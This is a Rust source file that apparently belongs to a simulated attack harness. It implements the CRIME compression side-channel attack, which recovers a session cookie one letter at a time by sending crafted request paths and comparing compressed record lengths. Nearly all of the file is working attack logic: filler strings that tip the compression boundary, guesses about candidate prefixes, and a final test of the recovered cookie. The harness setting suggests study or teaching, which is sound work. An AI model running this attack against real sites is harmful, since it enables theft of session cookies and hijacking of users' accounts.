//! CRIME: what repeats is compressed away, so a path that holds the cookie's next letter makes a shorter record. Rizzo and
//! Duong, 2012.

use super::{Attacker, records};
use crate::reach::{COOKIE_LEN, COOKIE_LETTERS, TappedRequests};
use crate::tally::{Tally, Turn};
use std::cmp::Reverse;

/// What stands before the cookie, and repeats in a guess.
const MARK: &str = "session=";
/// What parts a guess from what repeats. A length is a whole number of bytes, in which a few bits can drown; é takes 9 bits
/// where a plain letter takes 8, and moves the border.
const FILLERS: [&str; 8] =
    ["#&^%!?~|", "#&^%!?~|é", "#&^%!?~|éé", "#&^%!?~|ééé", "*()[]{}<", "*()[]{}<é", "*()[]{}<éé", "*()[]{}<ééé"];
/// So many beginnings are followed at most: two letters may come to the same, until the next one tells.
const MOST: usize = 8;

/// What the cookie may begin with, and by how many bytes the records with it were shorter so far.
type Beginning = (i64, String);

/// Letter by letter, those that make the shortest records.
pub struct Crime {
    beginnings: Vec<Beginning>,
    /// The beginning, the letter and the filler that are tried next.
    next: (usize, usize),
    filler: usize,
    longer: Vec<Beginning>,
}

impl Default for Crime {
    fn default() -> Self {
        Crime { beginnings: vec![(0, String::new())], next: (0, 0), filler: 0, longer: Vec::new() }
    }
}

impl Attacker<dyn TappedRequests> for Crime {
    fn advance(&mut self, victim: &mut (dyn TappedRequests + 'static), tally: &mut Tally) -> Turn {
        tally.recovered.resize(COOKIE_LEN, None);
        if let Some((_, known)) = self.beginnings.first().filter(|(_, known)| known.len() == COOKIE_LEN) {
            // Those that are left over are tried out.
            tally.tries += 1;
            if victim.visit(known.as_bytes()) {
                known.bytes().enumerate().for_each(|(at, letter)| tally.reads(at, letter));
                return Turn::Done;
            }
            self.beginnings.remove(0);
            return if self.beginnings.is_empty() { Turn::GivesUp } else { Turn::Goes };
        }
        let (Some((gained, known)), Some(filler)) = (self.beginnings.get(self.next.0), FILLERS.get(self.filler)) else {
            return self.choose(tally);
        };
        let Some(letter) = COOKIE_LETTERS.get(self.next.1).copied() else {
            self.next = (self.next.0 + 1, 0);
            return Turn::Goes;
        };
        self.next.1 += 1;
        (tally.guess, tally.tries) = (Some((known.len(), letter)), tally.tries + 2);
        // The same letters both times, but only in one does the guess stand behind what repeats.
        let guess = char::from(letter);
        let apart = seen(victim, &format!("{MARK}{known}{filler}{guess}"));
        let close = seen(victim, &format!("{MARK}{known}{guess}{filler}"));
        if apart > close {
            self.longer.push((gained + apart - close, format!("{known}{guess}")));
        }
        Turn::Goes
    }
}

impl Crime {
    /// Goes on with what came out shorter.
    fn choose(&mut self, tally: &mut Tally) -> Turn {
        self.next = (0, 0);
        self.filler += 1;
        if self.longer.is_empty() {
            return if self.filler < FILLERS.len() { Turn::Goes } else { Turn::GivesUp };
        }
        self.filler = 0;
        self.beginnings = std::mem::take(&mut self.longer);
        self.beginnings.sort_by_key(|(gained, _)| Reverse(*gained));
        self.beginnings.truncate(MOST);
        // What all of them begin with is known.
        let first = self.beginnings.first().map(|(_, known)| known.as_bytes()).unwrap_or_default();
        let agree = |at: usize| self.beginnings.iter().all(|(_, other)| other.as_bytes().get(at) == first.get(at));
        for (at, letter) in first.iter().enumerate().take_while(|(at, _)| agree(*at)) {
            tally.reads(at, *letter);
        }
        Turn::Goes
    }
}

/// How long the records are.
fn seen(victim: &mut dyn TappedRequests, path: &str) -> i64 {
    records(&victim.request(path)).iter().map(|(_, fragment)| fragment.len() as i64).sum()
}
